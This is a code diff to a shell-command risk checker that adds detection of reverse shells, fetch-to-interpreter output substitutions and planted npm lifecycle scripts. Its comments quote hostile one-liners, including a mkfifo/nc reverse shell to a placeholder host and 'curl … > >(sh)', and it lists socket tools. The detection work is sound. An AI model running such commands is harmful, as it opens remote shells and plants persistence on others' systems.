@@ -10,6 +10,7 @@ from wispsh.model import Finding, Judged, Level, Split, Verdict
 from wispsh.policy.cmd import NO_FACTS
 from wispsh.policy.engine import worst
 from wispsh.policy import places, secrets
+from wispsh.programs.grammar import UNKNOWN
 from wispsh.support.lazyre import lazy_re, re
 
 S, L, M, H, D = Level.SAFE, Level.LOW, Level.MODERATE, Level.HIGH, Level.DANGEROUS
@@ -25,8 +26,8 @@ def judge_whole_line(split: Split, judged: tuple[Judged, ...], ctx) -> Verdict:
     found: list[Finding] = []
     facts = [item.facts for item in judged]
     carried = _fetched_content(judged, facts, found)
-    _pipelines(judged, facts, found, ctx, carried)
-    _nested(judged, facts, found)
+    fed = _pipelines(judged, facts, found, ctx, carried)
+    _nested(judged, facts, found, fed)
     _secret_variables(judged, facts, found, ctx)
     _through_new_links(judged, facts, found, ctx)
     _sockets(facts, found)
@@ -37,7 +38,10 @@ def judge_whole_line(split: Split, judged: tuple[Judged, ...], ctx) -> Verdict:
     return worst(found)
 
 
-def _pipelines(judged, facts, found, ctx, carried=frozenset()) -> None:
+def _pipelines(judged, facts, found, ctx, carried=frozenset()) -> set:
+    """What flows from stage to stage: fetched or decoded text into an interpreter, secrets into the network, a
+    shell and a socket joined into a reverse shell. The stages that print what a stage before them fetched."""
+    fed: set = set()
     stages: dict = {}
     for index, item in enumerate(judged):
         part = item.part
@@ -73,6 +77,8 @@ def _pipelines(judged, facts, found, ctx, carried=frozenset()) -> None:
                                                             "the agent's context", "secret"))
             dumped = key is not None and key.program in ("env", "printenv", "set", "export", "declare") and \
                 key.runs_nothing or key is not None and key.program == "printenv" and len(key.command) == 1
+            if fetched is not None:
+                fed.add(i)
             if f is not NO_FACTS:
                 if f.lists_big:
                     listed = f.lists_big
@@ -85,6 +91,36 @@ def _pipelines(judged, facts, found, ctx, carried=frozenset()) -> None:
             if i in carried:
                 fetched = i
             written = i if key is not None and key.program in ("printf", "echo") else None
+        _reverse_shell(judged, facts, found, members)
+    return fed
+
+
+# Programs that join their input and output to a socket (GTFOBins' reverse shells pipe a shell through them).
+RAW_SOCKETS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "openssl", "websocat", "cryptcat", "pwncat"})
+
+
+def _reverse_shell(judged, facts, found, members) -> None:
+    """`mkfifo /tmp/f; sh -i < /tmp/f 2>&1 | nc host 4444 > /tmp/f`: a shell whose commands come from a file a
+    socket stage of the same pipeline writes (what the other end sends), or a shell session (no script: its
+    terminal or input) whose output is piped into a socket."""
+    sockets = [n for n, i in enumerate(members) if facts[i].net_send and judged[i].key is not None
+               and judged[i].key.program in RAW_SOCKETS]
+    if not sockets:
+        return
+    from_network = {path for i in members for path in facts[i].fetch_writes}
+    for position, i in enumerate(members):
+        f = facts[i]
+        if not (f.stdin_interp and f.interp):
+            continue
+        inputs = set(f.runs).union(*(facts[j].reads + facts[j].runs for j in members[:position]))
+        if inputs & from_network:
+            found.append(Finding(D, "flow.reverse-shell", f"'{judged[i].part.text[:40]}' runs what the socket "
+                                                          f"writes to {sorted(inputs & from_network)[0]} (reverse shell)"))
+            return
+        if position == 0 and not f.runs and any(n > position for n in sockets):
+            found.append(Finding(D, "flow.reverse-shell", f"'{judged[i].part.text[:40]}' is a shell session piped "
+                                                          "into a network socket (reverse shell)"))
+            return
 
 
 def _fetched_content(judged, facts, found) -> set:
@@ -150,7 +186,22 @@ def _ancestors(judged, index):
         seen += 1
 
 
-def _nested(judged, facts, found) -> None:
+def _nested(judged, facts, found, fed=frozenset()) -> None:
+    for index, f in enumerate(facts):
+        # `curl … > >(sh)`, `curl … | tee >(bash)`: an output substitution reads what the command it sits in prints
+        if judged[index].part.origin != ">()" or not (f.stdin_interp or f.runtime_code or f.net_send):
+            continue
+        writer = judged[index].part.parent
+        if writer is None or not 0 <= writer < len(facts):
+            continue
+        source = facts[writer]
+        if (source.net_fetch or writer in fed) and (f.stdin_interp or f.runtime_code):
+            found.append(Finding(D, "flow.fetch-to-interpreter", "runs code fetched from the network (… > >(sh))"))
+        elif source.decoder and (f.stdin_interp or f.runtime_code):
+            found.append(Finding(H, "flow.decode-to-interpreter", "decodes hidden text and runs it"))
+        if source.secret_source and f.net_send:
+            found.append(Finding(D, "flow.secret-to-network", f"sends secrets to the network (a part "
+                                                              f"{source.secret_source}, into >(…))"))
     for index, f in enumerate(facts):
         if judged[index].part.parent is None or not (f.net_fetch or f.decoder or f.secret_source):
             continue
@@ -356,20 +407,35 @@ def _write_then_run(judged, facts, found, ctx) -> None:
             fetching_stage[part.pipeline] = part.stage
 
 
-# An edit that names a package.json lifecycle script: `.scripts.postinstall=…` (jq), `"prepare":` (sed), `scripts
-# ['preinstall']` (python, node). pre*/post* hooks run around npm's verbs (pretest, postinstall), prepare and
-# install on every install.
-LIFECYCLE_EDIT = lazy_re(r"(?s)scripts\b[^;|&]{0,200}?\b(?:pre|post)[A-Za-z]+|scripts\b[^;|&]{0,200}?\b(?:prepare"
-                         r"|install|uninstall)\b")
+# An edit that names a package.json lifecycle script as a key: `.scripts.postinstall=…`, `.scripts += {"prepare":
+# …}` (jq, yq), `"preinstall":` (sed), `scripts['preinstall'] =` (python, node). Which scripts npm runs on its
+# own is programs/packages.py's (NPM_LIFECYCLE); a value that only mentions one (`"node prebuild.js"`) is no key.
+_LIFECYCLE_EDIT: list = []
+
+
+def lifecycle_edit():
+    """The pattern, compiled on first use (packages.py is loaded only for a line that edits scripts)."""
+    if not _LIFECYCLE_EDIT:
+        from wispsh.programs.packages import NPM_INSTALL_SCRIPTS, NPM_OTHER_LIFECYCLE
+
+        _LIFECYCLE_EDIT.append(re.compile(
+            rf"(?s)scripts\b[^;|&]{{0,200}}?(?<![A-Za-z0-9_-])({NPM_INSTALL_SCRIPTS}|{NPM_OTHER_LIFECYCLE})"
+            r"""(?:["']?\]?\s*[|+]?=(?!=)|["']\s*:)"""))
+    return _LIFECYCLE_EDIT[0]
+
+
 EDIT_SINKS = frozenset({"sponge", "tee", "dd"})      # `jq … package.json | sponge package.json`
 MOVERS = frozenset({"mv", "cp", "install"})
+NPM_LIKE = frozenset({"npm", "pnpm", "yarn", "bun"})
 
 
 def _lifecycle_edits(judged, facts, found, ctx) -> None:
     """`jq '.scripts.postinstall="…"' package.json > t && mv t package.json`, `… | sponge package.json`, `sed -i`
     of a lifecycle key, `npm pkg set scripts.X=…`: an edit whose final destination is a package.json and that
-    plants a script npm runs on its own (high), then an install or build of that directory (dangerous)."""
-    planted: dict[str, str] = {}        # path -> what planted a lifecycle script in it
+    plants a script npm runs on its own is persistence (dangerous, levels.md: files that steer tools); an install
+    or build of that directory after it runs what was planted. A script that runs only when named (`test`) is
+    an ordinary edit, until the line runs the project's scripts (write then run)."""
+    planted: dict[str, tuple] = {}      # path -> (what planted a script in it, when npm runs it or None, its text)
     for index, item in enumerate(judged):
         part, key, f = item.part, item.key, facts[index]
         program = key.program if key is not None else None
@@ -386,16 +452,32 @@ def _lifecycle_edits(judged, facts, found, ctx) -> None:
             run = next((p for p in planted if p.rsplit("/", 1)[-1] == "package.json" and
                         p.rsplit("/", 1)[0] in f.builds), None)
             if run is not None:
-                found.append(Finding(D, "flow.lifecycle-then-run", f"{planted[run]}, then '{part.text[:50]}' "
-                                                                   "runs it"))
-                return
-        if program == "npm" and tuple(key.command[1:3]) == ("pkg", "set") and any(
-                w and w.startswith("scripts.") for w in key.command[3:]):
-            planted[places.place("package.json", ctx, ctx.cwd).path] = "npm pkg set writes a script"
+                why, runs, text = planted[run]
+                if runs is not None:
+                    found.append(Finding(D, "flow.lifecycle-then-run", f"{why}, then '{part.text[:50]}' runs it"))
+                    return
+                level, said = _script_text_level(text, ctx)
+                found.append(Finding(level, "flow.write-then-run", f"{why}, then '{part.text[:50]}' runs the "
+                                                                   f"project's scripts{said}"))
+                continue
+        if program in NPM_LIKE and "scripts" in part.text and key.command[1:2] in (("pkg",), ("set-script",)):
+            for name, text in _npm_scripts_set(key.command):
+                from wispsh.programs.packages import lifecycle_runs
+
+                runs = lifecycle_runs(name) if UNKNOWN not in name else "npm may run it on its own"
+                where = places.place("package.json", ctx, ctx.cwd).path
+                if runs is not None or planted.get(where, (0, None))[1] is None:
+                    planted[where] = (f"{program} sets the script '{name.replace(UNKNOWN, '…')}'", runs, text)
             continue
         if program in ("echo", "printf") or "scripts" not in part.text or \
-                "package.json" not in part.text and not f.writes or not LIFECYCLE_EDIT.search(part.text):
+                "package.json" not in part.text and not f.writes:
             continue
+        edit = lifecycle_edit().search(part.text)
+        if edit is None:
+            continue
+        name = edit.group(1)
+        from wispsh.programs.packages import lifecycle_runs
+
         dests = list(f.writes)
         if part.pipeline is not None:
             dests += [w for j, other in enumerate(judged) if other.part.pipeline == part.pipeline
@@ -404,12 +486,40 @@ def _lifecycle_edits(judged, facts, found, ctx) -> None:
         if f.runtime_code is False and f.interp and "package.json" in part.text:
             dests.append(places.place("package.json", ctx, ctx.cwd).path)
         for dest in dests:
-            planted[dest] = f"'{part.text[:50]}' writes a lifecycle script"
-    for path, why in planted.items():
-        if path.rsplit("/", 1)[-1] == "package.json":
-            found.append(Finding(H, "flow.lifecycle-edit", f"{why} into {path.rsplit('/', 2)[-2]}/package.json "
-                                                           "(npm runs it on install)"))
+            planted[dest] = (f"'{part.text[:50]}' writes the lifecycle script '{name}'",
+                             lifecycle_runs(name) or "npm runs it on its own", None)
+    for path, (why, runs, _) in planted.items():
+        if runs is not None and path.rsplit("/", 1)[-1] == "package.json":
+            found.append(Finding(D, "flow.lifecycle-edit", f"{why} into {path.rsplit('/', 2)[-2]}/package.json "
+                                                           f"({runs}): a script that runs on its own is persistence"))
             return
+
+
+def _npm_scripts_set(command) -> list[tuple[str, str | None]]:
+    """(name, text) of each script `npm pkg set scripts.NAME=TEXT` / `npm set-script NAME TEXT` sets."""
+    words = [w if w is not None else UNKNOWN for w in command[2:]]
+    if command[1] == "set-script":
+        operands = [w for w in words if not w.startswith("-")]
+        return [(operands[0], operands[1] if len(operands) > 1 else None)] if operands else []
+    if words[:1] != ["set"]:
+        return []
+    found = []
+    for word in words[1:]:
+        name, _, text = word.partition("=")
+        if name.startswith("scripts.") or name.startswith("scripts[") and name.endswith("]"):
+            found.append((name[8:].strip("[]'\""), text if UNKNOWN not in text else None))
+    return found
+
+
+def _script_text_level(text, ctx) -> tuple[Level, str]:
+    """A script's visible text judged as a line: at least high (the line writes it, then runs it)."""
+    if not text or len(text) > MAX_WRITTEN_CODE:
+        return H, ""
+    try:
+        level = ctx.judge_code(text, ctx, None).level
+    except Exception:       # fail closed
+        return H, ""
+    return max(H, level), f" ('{text[:40]}' is {level})" if level > H else ""
 
 
 def _origin(written: dict, path: str, kind: str | None = None):
